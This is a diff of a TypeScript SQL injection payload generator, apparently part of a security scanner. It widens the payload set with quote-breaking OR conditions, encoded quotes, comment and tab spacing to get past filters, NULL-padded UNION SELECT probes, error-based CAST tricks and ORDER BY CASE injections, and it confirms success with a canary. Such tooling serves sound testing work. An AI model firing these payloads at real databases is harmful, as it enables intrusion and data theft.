@@ -25,7 +25,7 @@ export type InjectionPlace = {
 }
 
 /**
- * Attempts at SQL injection, a few dozen for each place, with marks and spelling from the seed. One got in when its reply
+ * Attempts at SQL injection, about a hundred for each place, with marks and spelling from the seed. One got in when its reply
  * shows the canary, or a mark that only PostgreSQL can have put together: `reverse('…')` in the payload, the word forwards
  * in the answer. What an echo of the payload shows is neither, so a service may well repeat what it refused.
  */
@@ -62,12 +62,19 @@ function payloadsOf(place: InjectionPlace, mark: string, random: Random): Payloa
   const backwards = [...mark].reverse().join('')
   // Without quotes, for places where they are doubled or refused.
   const codes = [...mark].map((character) => `chr(${character.charCodeAt(0)})`).join('||')
-  const end = random.pick(['-- ', '--', '/*'])
-  const spelt = (sql: string) =>
-    random.pick([sql, sql.toLowerCase(), sql.replaceAll(' ', '/**/'), sql.replaceAll(' ', '\n')])
+  const end = random.pick(['--', '-- ', ` -- ${mark.slice(0, 4)}`])
+  const or = random.pick([' OR ', ' or ', ' oR '])
+  // Past who refuses spaces.
+  const gap = random.pick(['/**/', '\n', '\t'])
+  const unspaced = `${gap}or${gap}(${where.replaceAll(' ', gap)})`
+  // A text fits into some column only, and NULL into the others.
+  const widths = Array.from({ length: columns.to - columns.from + 1 }, (_, at) => columns.from + at)
   const selects = (value: string) =>
-    Array.from({ length: columns.to - columns.from + 1 }, (_, at) => columns.from + at).map(
-      (width) => `UNION ALL SELECT ${Array.from({ length: width }, () => value).join(',')} `,
+    widths.flatMap((width) =>
+      Array.from({ length: width }, (_, place) => {
+        const values = Array.from({ length: width }, (_, at) => (at === place ? value : 'NULL'))
+        return `UNION ALL SELECT ${values.join(',')} `
+      }),
     )
 
   switch (place.as) {
@@ -76,23 +83,21 @@ function payloadsOf(place: InjectionPlace, mark: string, random: Random): Payloa
       const marked = `reverse('${backwards}')`
       return [
         ...named('a quote broken', [
-          broken(` OR (${where}) `),
-          `${ordinary}' OR (${where}) OR '1'='2`,
-          `' OR (${where}) OR 'a'='b`,
-          broken(`) OR (${where}) `),
-          broken(`)) OR (${where}) `),
-          `${ordinary}' OR (${where}) OR ''='x`,
-          broken(spelt(` OR (${where}) `)),
-          broken(`||'' OR (${where}) `),
-          `%' OR (${where}) ${end}`,
+          broken(`${or}(${where}) `),
+          `${ordinary}'${unspaced}--`,
+          broken(`)${or}(${where}) `),
+          broken(`))${or}(${where}) `),
+          `${ordinary}'${or}(${where})${or}'1'='2`,
+          `'${or}(${where})${or}'a'='b`,
+          `%'${or}(${where}) ${end}`,
         ]),
         ...named('a quote broken, encoded', [
-          encodeURIComponent(broken(` OR (${where}) `)),
-          broken(` OR (${where}) `).replaceAll("'", '\\u0027'),
-          broken(` OR (${where}) `).replaceAll("'", '\u02bc'),
-          broken(` OR (${where}) `).replaceAll("'", '\uff07'),
-          `${ordinary}\\' OR (${where}) ${end}`,
-          `${ordinary}\\'' OR (${where}) ${end}`,
+          encodeURIComponent(broken(`${or}(${where}) `)).replaceAll("'", '%27'),
+          broken(`${or}(${where}) `).replaceAll("'", '\\u0027'),
+          broken(`${or}(${where}) `).replaceAll("'", '\u02bc'),
+          broken(`${or}(${where}) `).replaceAll("'", '\uff07'),
+          `${ordinary}\\'${or}(${where}) ${end}`,
+          `${ordinary}\\''${or}(${where}) ${end}`,
         ]),
         ...named('a UNION', [
           ...selects(marked).map((sql) => broken(` AND 1=2 ${sql}`)),
@@ -113,21 +118,20 @@ function payloadsOf(place: InjectionPlace, mark: string, random: Random): Payloa
     case 'number': {
       return [
         ...named('a condition after a number', [
-          `${ordinary} OR ${where}`,
-          `${ordinary} OR (${where}) ${end}`,
-          `${ordinary}) OR (${where}) ${end}`,
-          `-1 OR (${where})`,
-          spelt(`${ordinary} OR (${where})`),
-          `${ordinary}\u00a0OR\u00a0(${where})`,
-          encodeURIComponent(`${ordinary} OR (${where})`),
+          `${ordinary}${or}(${where})`,
+          `${ordinary}${or}(${where}) ${end}`,
+          `${ordinary})${or}(${where}) ${end}`,
+          `${ordinary}))${or}(${where}) ${end}`,
+          `${ordinary}${unspaced}`,
+          encodeURIComponent(`${ordinary}${or}(${where})`),
         ]),
         ...named('a quote after a number', [
-          `${ordinary}' OR (${where}) ${end}`,
-          `${ordinary}' OR (${where}) OR '1'='2`,
+          `${ordinary}'${or}(${where}) ${end}`,
+          `${ordinary}'${or}(${where})${or}'1'='2`,
         ]),
         ...named('a UNION', [
           ...selects(`(${codes})`).map((sql) => `-1 ${sql}`),
-          ...selects(`(${codes})`).map((sql) => `${ordinary} AND 1=2 ${sql}${end}`),
+          ...selects(`(${codes})`).map((sql) => `-1) ${sql}${end}`),
         ]),
         ...named('an error that tells', [
           `${ordinary} AND 1=CAST((${codes}) AS int)`,
@@ -150,7 +154,7 @@ function payloadsOf(place: InjectionPlace, mark: string, random: Random): Payloa
           `(${where}) DESC`,
           `(${where}) DESC,${ordinary}`,
           `(${where}) DESC ${end}`,
-          spelt(`(CASE WHEN ${where} THEN 0 ELSE 1 END)`),
+          `(case/**/when/**/${where}/**/then/**/0/**/else/**/1/**/end)`,
         ]),
         ...named('a quoted name broken', [
           `${ordinary}" IS NULL, (${where}) DESC ${end}`,
